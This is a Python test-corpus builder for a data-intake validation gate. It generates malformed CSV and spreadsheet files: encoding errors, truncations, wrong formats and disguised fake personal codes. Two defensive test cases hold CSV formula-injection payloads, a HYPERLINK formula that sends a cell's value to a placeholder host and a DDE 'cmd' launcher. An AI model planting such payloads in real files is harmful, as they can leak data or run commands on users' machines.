"""Rebuild the committed corpus files from the deterministic sample (seed 2017).

    .venv/bin/python -m tests.bad_inputs.build_corpus

Each case starts from a few valid rows of a sample file (SIF September 2021 unless the case
needs another month or dataset) and breaks one thing. The files are committed, so the tests do
not depend on the sample generator; this script documents how each file was made. What the gate
must do with each file is in cases.toml, not here.
"""

from __future__ import annotations

import io
import shutil
import unicodedata
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from functools import cache

import openpyxl
from openpyxl.styles import Font

from roma_monitor.contracts import get_contract
from roma_monitor.sample.km import recommendation_rows_by_year
from roma_monitor.sample.sif import sif_rows_by_month
from tests.bad_inputs.corpus import (
    FAKE_CODE,
    FAKE_CODE_DIGITS,
    FAKE_NEW_CODE,
    FILES_DIR,
    HOME_FILES_DIR,
)

SEED = 2017
ROWS = 4
SIF = get_contract("sif_participant_months")
KM_IET = get_contract("km_recommendation_status")
SIF_NAME = "SIF_9144_202109.csv"
SIF_WORKBOOK = "SIF_9144_202109.xlsx"
KM_NAME = "KM_PLATF_IET_2021.csv"
POST_REFORM_CODE_FOR_2009 = "0001000"  # Rīga's 2021 code, in a month before the reform
PRE_REFORM_CODE = "0050000"  # a 2009 code, in a month after the reform


@cache
def _sample_sif() -> dict[date, list[list[str]]]:
    return sif_rows_by_month(SEED)


def sif_rows(month: date = date(2021, 9, 1), count: int = ROWS) -> list[list[str]]:
    return [list(r) for r in _sample_sif()[month][:count]]


def km_rows() -> list[list[str]]:
    """KM status changes of 2021 around the reform: before 01.07 2009 codes, from then 2021."""
    rows = recommendation_rows_by_year(SEED)[2021]
    june = [r for r in rows if r[0].endswith(".06.2021") and r[2]][:2]
    july = [r for r in rows if r[0].endswith(".07.2021") and r[2]][:2]
    september = [r for r in rows if r[0].endswith(".09.2021") and r[4]][:1]
    return [list(r) for r in june + july + september]


def set_field(rows, row: int, column: str, value: str, contract=SIF) -> list[list[str]]:
    """A copy of `rows` with `column` of data row `row` (1 = first) set to `value`."""
    changed = [list(r) for r in rows]
    changed[row - 1][contract.column_names.index(column)] = value
    return changed


def csv_bytes(
    rows,
    header=None,
    encoding="utf-8-sig",
    delimiter=";",
    newline="\r\n",
    final_newline=True,
    contract=SIF,
) -> bytes:
    header = contract.column_names if header is None else header
    lines = [delimiter.join(header)] + [delimiter.join(r) for r in rows]
    text = newline.join(lines) + (newline if final_newline else "")
    return text.encode(encoding)


def workbook_bytes(rows_of_cells: list[list[object]], merged: tuple[str, ...] = ()) -> bytes:
    """An .xlsx whose first sheet holds `rows_of_cells` from A1. A str starting with '=' is a
    formula unless wrapped in Text; datetimes get a date format."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Dalībnieki"
    for r, values in enumerate(rows_of_cells, start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c)
            if isinstance(value, Text):
                cell.value = str(value)
                cell.data_type = "s"  # text that only looks like a formula
            else:
                cell.value = value
            if isinstance(value, datetime):
                cell.number_format = "dd.mm.yyyy"
            if r == 1:
                cell.font = Font(bold=True)
    for coordinate in merged:
        sheet.merge_cells(coordinate)
    fixed = datetime(2021, 10, 5, 9, 0)
    workbook.properties.created = workbook.properties.modified = fixed
    path = FILES_DIR / ".tmp.xlsx"
    workbook.save(path)
    data = path.read_bytes()
    path.unlink()
    return data


class Text(str):
    """A workbook cell value written as text, even if it starts with '='."""


def typed_sif_cells(rows: list[list[str]]) -> list[list[object]]:
    """SIF rows as Excel holds them when the columns are not formatted as text."""
    cells = []
    for r in rows:
        row: list[object] = list(r)
        year, month = map(int, r[0].split("-"))
        row[0] = datetime(year, month, 1)
        row[5] = int(r[5])
        for i in (8, 9):
            if r[i]:
                day, mon, yr = map(int, r[i].split("."))
                row[i] = datetime(yr, mon, day)
            else:
                row[i] = None
        hours = float(r[11].replace(",", "."))
        row[11] = int(hours) if hours.is_integer() else hours
        cells.append(row)
    return cells


# --- the cases ----------------------------------------------------------------------------------
# Each returns {file name: bytes}. The case id is the folder name.

Builder = Callable[[], dict[str, bytes]]


def _sif(rows=None, **kwargs) -> dict[str, bytes]:
    return {SIF_NAME: csv_bytes(sif_rows() if rows is None else rows, **kwargs)}


def _sif_set(row: int, column: str, value: str) -> dict[str, bytes]:
    return _sif(set_field(sif_rows(), row, column, value))


def _mixed_encodings() -> dict[str, bytes]:
    """A Windows-1257 file with a row (Alūksnes novads) added in an editor saving UTF-8."""
    rows = sif_rows()
    head = csv_bytes(rows[1:], encoding="cp1257")
    return {SIF_NAME: head + (";".join(rows[0]) + "\r\n").encode("utf-8")}


def _double_encoded() -> dict[str, bytes]:
    """UTF-8 opened as Windows-1252 and saved as UTF-8 again (bytes 1252 lacks kept as is)."""
    data = csv_bytes(sif_rows(), encoding="utf-8")
    text = "".join(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in data)
    return {SIF_NAME: text.encode("utf-8")}


def _truncated() -> dict[str, bytes]:
    """The upload stopped in the middle of the last line."""
    data = csv_bytes(sif_rows())
    last_line = data.rindex(b"\r\n", 0, len(data) - 2) + 2
    return {SIF_NAME: data[: last_line + (len(data) - last_line) // 2]}


def _unclosed_quote() -> dict[str, bytes]:
    rows = set_field(sif_rows(), 2, "municipality_name", '"Balvu novads')
    return _sif(rows)


def _title_line() -> dict[str, bytes]:
    title = "SIF 9.1.4.4 dalībnieki, 2021. gada septembris\r\n".encode("utf-8-sig")
    return {SIF_NAME: title + csv_bytes(sif_rows(), encoding="utf-8")}


def _blank_lines_at_end() -> dict[str, bytes]:
    return {SIF_NAME: csv_bytes(sif_rows()) + b"\r\n;;;;;;;;;;;\r\n\r\n"}


def _workbook(cells, name=SIF_WORKBOOK, merged=()) -> dict[str, bytes]:
    return {name: workbook_bytes(cells, merged)}


def _plain_workbook() -> dict[str, bytes]:
    return _workbook([SIF.column_names, *sif_rows()])


def _two_row_header(merged: tuple[str, ...]) -> dict[str, bytes]:
    groups = ["Dalībnieks"] + [None] * 7 + ["Pakalpojumi"] + [None] * 3
    return _workbook([groups, SIF.column_names, *sif_rows()], merged=merged)


def _formula_cell() -> dict[str, bytes]:
    cells = [SIF.column_names, *sif_rows()]
    cells[2][11] = "=10+2.5"
    return _workbook(cells)


def _formula_text_in_workbook() -> dict[str, bytes]:
    cells: list[list[object]] = [SIF.column_names, *sif_rows()]
    cells[1][3] = Text("=Alūksnes novads")
    return _workbook(cells)


def _damaged_workbook() -> dict[str, bytes]:
    data = _plain_workbook()[SIF_WORKBOOK]
    return {SIF_WORKBOOK: data[: len(data) // 2]}


def _code_in_workbook_number_cell() -> dict[str, bytes]:
    cells: list[list[object]] = [SIF.column_names, *sif_rows()]
    cells[3][1] = int(FAKE_CODE_DIGITS)
    return _workbook(cells)


def _km(rows=None, **kwargs) -> dict[str, bytes]:
    return {KM_NAME: csv_bytes(km_rows() if rows is None else rows, contract=KM_IET, **kwargs)}


def _km_set(row: int, column: str, value: str) -> dict[str, bytes]:
    return _km(set_field(km_rows(), row, column, value, contract=KM_IET))


def _code_in_utf16() -> dict[str, bytes]:
    rows = set_field(sif_rows(), 3, "municipality_name", f"Ventspils {FAKE_CODE}")
    return _sif(rows, encoding="utf-16")


def _with_other_errors() -> dict[str, bytes]:
    rows = set_field(sif_rows(), 2, "municipality_name", FAKE_CODE)
    return _sif(set_field(rows, 3, "sex", "X"))


def _header_code() -> dict[str, bytes]:
    header = [*SIF.column_names[:-1], f"service_hours {FAKE_CODE_DIGITS}"]
    return _sif(header=header)


def _spaced(code: str, separator: str) -> str:
    return code.replace("-", "")[:6] + separator + code.replace("-", "")[6:]


def _workbook_as_csv(cells) -> dict[str, bytes]:
    """An .xlsx saved under the .csv name (Excel's 'Save As' keeps the name one types)."""
    return {SIF_NAME: workbook_bytes(cells)}


def _opendocument_spreadsheet() -> dict[str, bytes]:
    """A minimal OpenDocument spreadsheet (LibreOffice Calc) under the .csv name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    return {SIF_NAME: out.getvalue()}


def _nfd_codes() -> dict[str, bytes]:
    """Code values in decomposed Unicode (NFD: 'a' + a combining macron), as some macOS and web
    exports write them; they look identical on screen."""
    rows = set_field(sif_rows(), 2, "ethnicity", unicodedata.normalize("NFD", "nav norādīta"))
    return _sif(set_field(rows, 1, "municipality_name", unicodedata.normalize("NFD", "Alūksne")))


def _workbook_with_extra_sheet(title: str, cell: object, hidden: bool = False) -> dict[str, bytes]:
    """The month's workbook with a second sheet (a clerk's working notes)."""
    book = openpyxl.load_workbook(io.BytesIO(_plain_workbook()[SIF_WORKBOOK]))
    notes = book.create_sheet(title)
    notes["A1"] = cell
    if hidden:
        notes.sheet_state = "hidden"
    out = io.BytesIO()
    book.save(out)
    return {SIF_WORKBOOK: out.getvalue()}


def _workbook_far_cell() -> dict[str, bytes]:
    """The month's workbook with one stray cell at the sheet's last cell (XFD1048576)."""
    book = openpyxl.load_workbook(io.BytesIO(_plain_workbook()[SIF_WORKBOOK]))
    book.active["XFD1048576"] = "x"
    out = io.BytesIO()
    book.save(out)
    return {SIF_WORKBOOK: out.getvalue()}


def _number_without_leading_zero() -> dict[str, bytes]:
    """A code typed into a number cell: Excel drops its leading zero (01020345678 → 1020345678)."""
    cells: list[list[object]] = [SIF.column_names, *sif_rows()]
    cells[2][COLUMNS.index("municipality_name")] = int(FAKE_CODE.replace("-", ""))
    return _workbook(cells)


def _utf16_code_across_line_break() -> dict[str, bytes]:
    rows = set_field(
        sif_rows(), 2, "municipality_name", f'"Rīga {FAKE_CODE[:6]}\r\n{FAKE_CODE[7:]}"'
    )
    return _sif(rows, encoding="utf-16")


COLUMNS = SIF.column_names
CASES: dict[str, Builder] = {
    # loads
    "valid_utf8_bom_crlf": _sif,
    "valid_cp1257": lambda: _sif(encoding="cp1257"),
    "valid_utf8_no_bom_lf": lambda: _sif(encoding="utf-8", newline="\n"),
    "valid_no_final_newline": lambda: _sif(final_newline=False),
    "valid_blank_lines_at_end": _blank_lines_at_end,
    "valid_quoted_delimiter": lambda: _sif_set(1, "municipality_name", '"Alūksnes; novads"'),
    "valid_decimal_comma_forms": lambda: _sif(
        set_field(set_field(sif_rows(), 1, "service_hours", "12,50"), 2, "service_hours", "7")
    ),
    "valid_pre_reform_month": lambda: {
        "SIF_9144_202106.csv": csv_bytes(sif_rows(date(2021, 6, 1)))
    },
    "valid_km_both_vintages": _km,
    "formula_text_loaded": lambda: _sif_set(
        2, "municipality_name", '=HYPERLINK("http://x.example/?"&B3,"Balvi")'
    ),
    "formula_text_km_note": lambda: _km_set(5, "note", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "xlsx_plain": _plain_workbook,
    "xlsx_typed_cells": lambda: _workbook([COLUMNS, *typed_sif_cells(sif_rows())]),
    "xlsx_formula_text": _formula_text_in_workbook,
    # encoding
    "encoding_dos_baltic": lambda: _sif(encoding="cp775"),
    "encoding_utf16": lambda: _sif(encoding="utf-16"),
    "encoding_mixed": _mixed_encodings,
    "encoding_double_converted": _double_encoded,
    # delimiter and columns
    "delimiter_comma": lambda: _sif(delimiter=","),
    "delimiter_tab": lambda: _sif(delimiter="\t"),
    "column_missing": lambda: _sif([r[:-1] for r in sif_rows()], header=COLUMNS[:-1]),
    "column_extra": lambda: _sif([[*r, "x"] for r in sif_rows()], header=[*COLUMNS, "komentars"]),
    "column_renamed": lambda: _sif(header=[COLUMNS[0], "dalibnieka_id", *COLUMNS[2:]]),
    "columns_reordered": lambda: _sif(
        [[r[1], r[0], *r[2:]] for r in sif_rows()], header=[COLUMNS[1], COLUMNS[0], *COLUMNS[2:]]
    ),
    "column_duplicated": lambda: _sif(
        [[*r, r[4]] for r in sif_rows()], header=[*COLUMNS, COLUMNS[4]]
    ),
    "trailing_delimiter": lambda: _sif([[*r, ""] for r in sif_rows()], header=[*COLUMNS, ""]),
    "title_line_above_header": _title_line,
    # types and formats
    "wrong_type_integer": lambda: _sif_set(2, "birth_year", "1984.0"),
    "wrong_type_date": lambda: _sif_set(3, "service_start_date", "2021-01-28"),
    "decimal_point": lambda: _sif_set(2, "service_hours", "20.5"),
    "decimal_thousands_separator": lambda: _sif_set(1, "service_hours", "1 031"),
    # dates
    "impossible_date": lambda: _sif_set(4, "service_start_date", "31.02.2021"),
    "impossible_month": lambda: _sif_set(1, "service_start_date", "02.13.2021"),
    "future_date": lambda: _sif_set(2, "service_start_date", "18.01.2099"),
    "future_period": lambda: {"SIF_9144_209901.csv": csv_bytes(sif_rows())},
    "end_before_start": lambda: _sif_set(1, "service_end_date", "01.01.2021"),
    "row_outside_file_period": lambda: _sif_set(3, "reporting_month", "2021-08"),
    # keys and values
    "duplicate_key": lambda: _sif([*sif_rows(), sif_rows()[1]]),
    "negative_value": lambda: _sif_set(3, "service_hours", "-2"),
    "absurd_value": lambda: _sif_set(1, "service_hours", "5000"),
    "absurd_birth_year": lambda: _sif_set(4, "birth_year", "1850"),
    "unknown_code": lambda: _sif_set(2, "sex", "X"),
    # geography
    "unknown_atvk": lambda: _sif_set(2, "municipality_atvk", "0999999"),
    "pre_reform_atvk_after_reform": lambda: _sif_set(3, "municipality_atvk", PRE_REFORM_CODE),
    "post_reform_atvk_before_reform": lambda: {
        "SIF_9144_202106.csv": csv_bytes(
            set_field(sif_rows(date(2021, 6, 1)), 2, "municipality_atvk", "0001000")
        )
    },
    "km_pre_reform_atvk_after_july": lambda: _km_set(3, "municipality_atvk", PRE_REFORM_CODE),
    # empty and cut files
    "empty_file": lambda: {SIF_NAME: b""},
    "blank_file": lambda: {SIF_NAME: b"\r\n\r\n  \r\n"},
    "header_only": lambda: _sif([]),
    "truncated_last_line": _truncated,
    "unclosed_quote": _unclosed_quote,
    "very_long_value": lambda: _sif_set(2, "municipality_name", "Balvu novads " * 40),
    "huge_value": lambda: _sif_set(2, "municipality_name", "Balvu novads " * 10_100),
    # workbooks and names
    "xlsx_merged_header": lambda: _two_row_header(("A1:H1", "I1:L1")),
    "xlsx_multi_row_header": lambda: _two_row_header(()),
    "xlsx_formula_cell": _formula_cell,
    "xlsx_damaged": _damaged_workbook,
    "xls_legacy_format": lambda: {"SIF_9144_202109.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
    "wrong_file_name": lambda: {"SIF septembris.csv": csv_bytes(sif_rows())},
    # personal codes
    "personal_code_in_key": lambda: _sif_set(2, "participant_key", FAKE_CODE),
    "personal_code_digits_in_key": lambda: _sif_set(4, "participant_key", FAKE_CODE_DIGITS),
    "personal_code_in_text": lambda: _sif_set(1, "municipality_name", f"Alūksne {FAKE_CODE}"),
    "personal_code_digits_in_km_note": lambda: _km_set(5, "note", f"pk {FAKE_CODE_DIGITS}"),
    "personal_code_in_header": _header_code,
    "personal_code_in_file_name": lambda: {
        f"SIF_9144_202109_{FAKE_CODE}.csv": csv_bytes(sif_rows())
    },
    "personal_code_in_unreadable_file": _code_in_utf16,
    "personal_code_in_workbook_number": _code_in_workbook_number_cell,
    "personal_code_with_other_errors": _with_other_errors,
    # personal codes in other spellings (issue 13)
    "personal_code_spaced_in_km_note": lambda: _km_set(5, "note", f"pk {_spaced(FAKE_CODE, ' ')}"),
    "personal_code_en_dash_in_text": lambda: _sif_set(
        1, "municipality_name", f"Alūksne {_spaced(FAKE_CODE, chr(0x2013))}"
    ),
    "personal_code_nbsp_in_km_note": lambda: _km_set(
        2, "note", f"persona {_spaced(FAKE_CODE_DIGITS, chr(0xA0))}"
    ),
    "personal_code_new_form": lambda: _sif_set(3, "municipality_name", f"Rīga {FAKE_NEW_CODE}"),
    "personal_code_spaced_in_key": lambda: _sif_set(2, "participant_key", _spaced(FAKE_CODE, " ")),
    "personal_code_spaced_in_file_name": lambda: {
        f"SIF_9144_202109 {_spaced(FAKE_CODE, ' ')}.csv": csv_bytes(sif_rows())
    },
    "personal_code_split_across_cells": lambda: _sif(
        set_field(
            set_field(sif_rows(), 2, "municipality_atvk", FAKE_CODE[:6]),
            2,
            "municipality_name",
            f"{FAKE_CODE[7:]} Alūksne",
        )
    ),
    "personal_code_zero_width_space": lambda: _sif_set(
        4, "municipality_name", f"Cēsis {FAKE_CODE[:3]}\u200b{FAKE_CODE[3:]}"
    ),
    "personal_code_fullwidth_digits": lambda: _km_set(
        1, "note", "pk " + FAKE_CODE.translate({ord(d): 0xFF10 + int(d) for d in "0123456789"})
    ),
    "personal_code_in_utf32_file": lambda: _sif(
        set_field(sif_rows(), 1, "municipality_name", f"Talsi {FAKE_CODE}"), encoding="utf-32"
    ),
    "personal_code_in_workbook_saved_as_csv": lambda: _workbook_as_csv(
        [COLUMNS, *set_field(sif_rows(), 3, "municipality_name", f"Cēsis {FAKE_NEW_CODE}")]
    ),
    # other kinds of file an office suite saves, under the CSV's name
    "xlsx_saved_as_csv": lambda: _workbook_as_csv([COLUMNS, *sif_rows()]),
    "ods_saved_as_csv": _opendocument_spreadsheet,
    "xls_saved_as_csv": lambda: {SIF_NAME: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    "pdf_saved_as_csv": lambda: {SIF_NAME: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"},
    "encoding_utf32": lambda: _sif(encoding="utf-32"),
    # empty Excel 'CSV UTF-8' exports, control characters, blank line, decomposed text
    "empty_excel_export_bom_only": lambda: {SIF_NAME: b"\xef\xbb\xbf"},
    "empty_excel_export_bom_line_end": lambda: {SIF_NAME: b"\xef\xbb\xbf\r\n"},
    "nul_byte_in_text": lambda: _sif_set(3, "municipality_name", "Alūksnes\x00novads"),
    "control_character_in_km_note": lambda: _km_set(4, "note", "sēde\x07 atcelta"),
    "valid_one_blank_line_at_end": lambda: {SIF_NAME: csv_bytes(sif_rows()) + b"\r\n"},
    "valid_nfd_text": _nfd_codes,
    # found by trying to break the gate (a review of issue 13's first version)
    "personal_code_wave_dash_in_km_note": lambda: _km_set(
        1, "note", f"pk {_spaced(FAKE_CODE, chr(0x301C))}"
    ),
    "personal_code_ellipsis_in_km_note": lambda: _km_set(
        2, "note", f"pk {_spaced(FAKE_CODE, chr(0x2026))}"
    ),
    "personal_code_reversed_by_rtl_override": lambda: _km_set(
        3, "note", "\u202e" + FAKE_CODE[::-1] + "\u202c"
    ),
    "personal_code_control_character_separator": lambda: _km_set(
        4, "note", _spaced(FAKE_CODE, "\x85")
    ),
    "personal_code_split_across_header_cells": lambda: _sif(
        [[*r, "", ""] for r in sif_rows()], header=[*COLUMNS, FAKE_CODE[:6], FAKE_CODE[7:]]
    ),
    "personal_code_in_hidden_second_sheet": lambda: _workbook_with_extra_sheet(
        "Piezīmes", f"pārbaudīt {FAKE_CODE}", hidden=True
    ),
    "personal_code_as_sheet_name": lambda: _workbook_with_extra_sheet(
        _spaced(FAKE_CODE, " "), "piezīmes"
    ),
    "personal_code_number_lost_leading_zero": _number_without_leading_zero,
    "personal_code_in_csv_lost_leading_zero": lambda: _sif_set(
        2, "municipality_name", FAKE_CODE.replace("-", "")[1:]
    ),
    "personal_code_across_line_break_in_utf16": _utf16_code_across_line_break,
    "xlsx_far_stray_cell": _workbook_far_cell,
    "valid_phone_number_in_km_note": lambda: _km_set(2, "note", "zvanīt +37129123456"),
}


def build_home_files() -> None:
    """The extracts the test home has loaded before each case: another SIF month and KM year."""
    shutil.rmtree(HOME_FILES_DIR, ignore_errors=True)
    HOME_FILES_DIR.mkdir(parents=True)
    rows = sif_rows(date(2021, 8, 1), 5)
    (HOME_FILES_DIR / "SIF_9144_202108.csv").write_bytes(csv_bytes(rows, encoding="cp1257"))
    km_2020 = [list(r) for r in recommendation_rows_by_year(SEED)[2020][:5]]
    (HOME_FILES_DIR / "KM_PLATF_IET_2020.csv").write_bytes(csv_bytes(km_2020, contract=KM_IET))


def build() -> None:
    for folder in FILES_DIR.iterdir() if FILES_DIR.exists() else ():
        if folder.is_dir():
            shutil.rmtree(folder)
    for case, builder in CASES.items():
        folder = FILES_DIR / case
        folder.mkdir(parents=True)
        for name, data in builder().items():
            (folder / name).write_bytes(data)
    build_home_files()


if __name__ == "__main__":
    build()
    print(f"{len(CASES)} cases in {FILES_DIR.name}/")
